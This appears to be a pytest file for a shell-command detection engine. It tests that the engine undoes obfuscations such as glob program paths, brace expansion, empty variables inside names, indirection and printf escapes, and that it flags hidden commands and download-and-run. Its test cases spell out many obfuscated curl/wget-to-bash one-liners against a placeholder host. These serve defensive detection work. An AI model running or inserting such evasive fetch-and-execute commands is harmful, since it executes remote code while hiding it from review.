"""Spellings only the shell's own expansions undo read as the shell reads them: program paths
written as globs, brace expansion for spaces, empty $@ or unset ${x} inside a name, zsh's =(…)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection.interpret import READERS, Behaviour, Interpretation
from app.detection.interpret import interpret as _interpret
from app.detection.interpret.budget import Budget
from app.detection.interpret.posix import MAX_BRACE_WORDS, expand_braces, glob_program


def interpret(text: str) -> Interpretation:
    return _interpret(text, Budget(ms=5000, strict=True), readers=list(READERS))


def sniffed(text: str) -> Interpretation:
    """As the engine reads it: only the interpreters the text's markers choose."""
    return _interpret(text, Budget(ms=5000, strict=True))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('/???/?as? -c "$(/???/???/?ur? -fsSL https://a.test/g)"', "/bin/bash -c"),
        ('/???/?as? -c "$(/???/???/?ur? -fsSL https://a.test/g)"', "/usr/bin/curl -fsSL"),
        ("/usr/bin/c?rl -s https://a.test/x | /b??/b*sh", "/usr/bin/curl -s https://a.test/x"),
        ("{curl,-fsSL,https://a.test/b}|{bash,-s}", "curl -fsSL https://a.test/b |bash -s"),
        ("cu$@rl -s ht$@tps://a.test/w | ba$@sh", "curl -s https://a.test/w | bash"),
        ("c$*url -s https://a.test/w | b$1ash", "curl -s https://a.test/w | bash"),
        ('ba${x}sh -c "$(cu${x}rl https://a.test/a)"', 'bash -c "$(curl https://a.test/a)"'),
        ("zsh =(curl -fsSL https://a.test/z)", "zsh <(curl -fsSL https://a.test/z)"),
        ("cur$()l -s https://a.test/e | ba$()sh", "curl -s https://a.test/e | bash"),
        ('/bin/ba[s]h -c "$(/usr/bin/cu[r]l -s https://a.test/k)"', "/bin/bash -c"),
        # indirection: the variable whose name another one holds (${!x}, not the name itself)
        ("x=curl; y=x; ${!y} -s https://a.test/n | sh", "curl -s https://a.test/n | sh"),
        # printf's %b reads its argument's escapes as echo -e does
        (
            "$(printf '%b' '\\x63\\x75\\x72\\x6c') -s https://a.test/p | sh",
            "curl -s https://a.test/p",
        ),
    ],
)
def test_expansions_are_undone_as_the_shell_does(text: str, expected: str) -> None:
    assert expected in "\n".join(sniffed(text).layers)


@pytest.mark.parametrize(
    "text",
    [
        '/???/?as? -c "$(/???/???/?ur? -fsSL https://a.test/g)"',
        "{curl,-fsSL,https://a.test/b}|{bash,-s}",
        "cu$@rl -s ht$@tps://a.test/w | ba$@sh",
        'ba${x}sh -c "$(cu${x}rl https://a.test/a)"',
        "zsh =(curl -fsSL https://a.test/z)",
        "sudo zsh =(wget -qO- https://a.test/z)",
        "curl${IFS}-s${IFS}https://a.test/i|bash",
        'X=$(curl -s https://a.test/v);eval "$X"',
        'p=$(wget -qO- https://a.test/v); bash -c "${p}"',
    ],
)
def test_the_download_each_spelling_hides_is_run(text: str) -> None:
    result = sniffed(text)
    assert result.behaviours.get(Behaviour.RUNS_DOWNLOADED), result.behaviours


@pytest.mark.parametrize(
    "text",
    [
        "/???/?as? -c 'id'",
        "cu$@rl -s https://a.test/x",
        "w${u}get https://a.test/x",
        "sudo /???/b?sh -c 'id'",
        "env c\\url -s https://a.test/x",
    ],
)
def test_a_name_no_one_wrote_out_is_a_hidden_command(text: str) -> None:
    assert Behaviour.HIDDEN_COMMAND in sniffed(text).behaviours


@pytest.mark.parametrize(
    ("glob", "path"),
    [
        ("/???/?as?", "/bin/bash"),
        ("/???/???/?ur?", "/usr/bin/curl"),
        ("/usr/bin/w?et", "/usr/bin/wget"),
        ("/b*/z?h", "/bin/zsh"),
        ("/???/x?z", None),  # a glob that matches none of the programs stays as written
        ("/etc/*.conf", None),
        ("/bin/bash", None),  # no glob: nothing to match
        ("curl", None),
    ],
)
def test_a_glob_names_the_program_the_shell_would_pick(glob: str, path: str | None) -> None:
    assert glob_program(glob) == path


@pytest.mark.parametrize(
    ("text", "expanded"),
    [
        ("mkdir -p src/{lib,bin}", "mkdir -p src/lib src/bin "),
        ("cp a.yml{,.bak}", "cp a.yml a.yml.bak "),
        ("{curl,-s,https://a.test/x}", "curl -s https://a.test/x "),
        ('echo "{a,b}"', None),  # quoted: the shell leaves it as written
        ("echo ${HOME}", None),
        ("echo {a}", None),  # no comma: no expansion
    ],
)
def test_brace_expansion_makes_the_shells_words(text: str, expanded: str | None) -> None:
    assert expand_braces(text) == expanded


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /etc/*.conf",
        'for f in /var/log/*.log; do gzip "$f"; done',
        "mkdir -p src/{lib,bin,test} && cp config.yml{,.bak}",
        'mk() { mkdir -p "$@" && cd "$1"; }',
        "diff =(ls dir1) =(ls dir2)",
        'tar xzf "app-${VERSION}-linux.tar.gz"',
        'OLDIFS=$IFS; IFS=,; read -r a b <<< "x,y"; IFS=$OLDIFS',
        'X=$(curl -s https://api.example.com/v1/me); echo "$X" | jq .name',
        "sudo env DEBIAN_FRONTEND=noninteractive apt-get upgrade -y",
    ],
)
def test_everyday_expansions_do_nothing_of_concern(text: str) -> None:
    behaviours = interpret(text).behaviours
    assert not {Behaviour.RUNS_DOWNLOADED, Behaviour.HIDDEN_COMMAND} & set(behaviours), behaviours


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="{},ab$\"' |;-/", max_size=200))
def test_brace_expansion_of_any_text_is_bounded(text: str) -> None:
    out = expand_braces(text)
    assert out is None or out.count(" ") <= text.count(" ") + 2 * (MAX_BRACE_WORDS + 1) * (
        text.count("{") + 1
    )
